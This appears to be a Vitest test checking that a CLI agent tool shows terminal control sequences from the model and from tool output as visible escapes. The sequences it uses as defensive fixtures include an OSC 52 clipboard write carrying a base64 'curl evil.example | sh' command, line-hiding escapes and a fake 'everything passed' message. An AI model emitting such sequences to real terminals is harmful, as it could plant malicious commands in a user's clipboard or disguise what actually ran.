// Terminal control sequences from the model and from a tool's output, through the real `palisade
// run` (real Engine, Agent and shell capability, the scripted model): the bytes written to stdout
// and stderr carry none of them; they are shown as visible escapes.
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startScriptedServer } from "@palisade/testing";
import type { ScriptedServer } from "@palisade/testing";
import { runCli } from "../src/cli/run-cli.js";
import { captureIo } from "./helpers.js";

const main = join(import.meta.dirname, "..", "dist", "main.js");
const built =
  existsSync(main) && existsSync(join(import.meta.dirname, "..", "..", "capabilities", "shell", "dist", "main.js"));

// OSC 52 (sets the clipboard), cursor up + erase line (hides what was printed), a colour drawing a
// fake result, a C1 CSI (U+009B) and a bidi override
const OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const HIDE = "\u001b[1A\u001b[2K";
const FAKE_OK = "\u001b[32m✓ everything passed\u001b[0m";
const MODEL_TEXT = `Here you go.${OSC52}${HIDE}${FAKE_OK} \u009b2J done \u202eevil\r overwritten`;
// the tool prints the same kinds of sequences (printf's octal escapes inside the sandbox)
const TOOL_COMMAND = String.raw`printf '\033]52;c;ZXZpbA==\007\033[1A\033[2K\033[32mall tests passed\033[0m\n'`;

// ESC, BEL, CR and the C1 controls (U+0080..U+009F), bidi overrides and isolates
// eslint-disable-next-line no-control-regex -- these are what must not reach the terminal
const RAW_CONTROLS = /[\u001b\u0007\r\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;

describe.skipIf(!built)("palisade run shows terminal controls from the model and tools as visible escapes", () => {
  let model: ScriptedServer;
  let root: string;
  let g: string[];
  beforeAll(async () => {
    model = await startScriptedServer({
      turns: [
        { toolCalls: [{ name: "load_tools", arguments: { groups: ["shell"] } }] },
        { toolCalls: [{ name: "shell__execute_command", arguments: { command: TOOL_COMMAND } }] },
        { content: MODEL_TEXT },
        { content: MODEL_TEXT },
      ],
      tokenDelayMs: 0,
    });
    root = mkdtempSync(join(tmpdir(), "pesc-"));
    mkdirSync(join(root, "w"));
    writeFileSync(
      join(root, "config.yaml"),
      `model:\n  base_url: ${model.baseURL}\n  name: scripted-model\nhistory:\n  auto_title: false\n`,
    );
    g = ["--data-dir", join(root, "d"), "--config", join(root, "config.yaml")];
  }, 60_000);

  afterAll(async () => {
    await runCli([...g, "engine", "stop"], captureIo({ HOME: root }, root));
    await model?.close();
    rmSync(root, { recursive: true, force: true });
  }, 60_000);

  it("stdout and stderr carry no ESC, BEL, CR, C1 or bidi control from the model or the tool", async () => {
    const io = captureIo({ PALISADE_CLI_MAIN: main, HOME: root, PATH: process.env.PATH }, join(root, "w"));
    const code = await runCli([...g, "run", "--approve", "shell__*", "run the tests"], io);
    expect(code, io.err()).toBe(0);
    expect(io.out()).not.toMatch(RAW_CONTROLS);
    expect(io.err()).not.toMatch(RAW_CONTROLS);
    // what the model sent is there, visibly
    expect(io.out()).toContain("\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
    expect(io.out()).toContain("\\e[1A\\e[2K\\e[32m✓ everything passed\\e[0m");
    expect(io.out()).toContain("\\x9b2J done \\u202eevil\\r overwritten");
    // and the tool's output line
    expect(io.out()).toMatch(/✓ shell__execute_command .*\\e\[32mall tests passed/);
  }, 180_000);

  it("--json: the same values, with C1 and bidi characters as \\u escapes (ESC is escaped by JSON)", async () => {
    const io = captureIo({ PALISADE_CLI_MAIN: main, HOME: root, PATH: process.env.PATH }, join(root, "w"));
    expect(await runCli([...g, "run", "--json", "again"], io)).toBe(0);
    expect(io.out()).not.toMatch(RAW_CONTROLS);
    const done = io
      .out()
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { type: string; responseComplete?: { content: string } })
      .find((l) => l.type === "RESPONSE_COMPLETE");
    expect(done?.responseComplete?.content).toBe(MODEL_TEXT);
  }, 180_000);
});
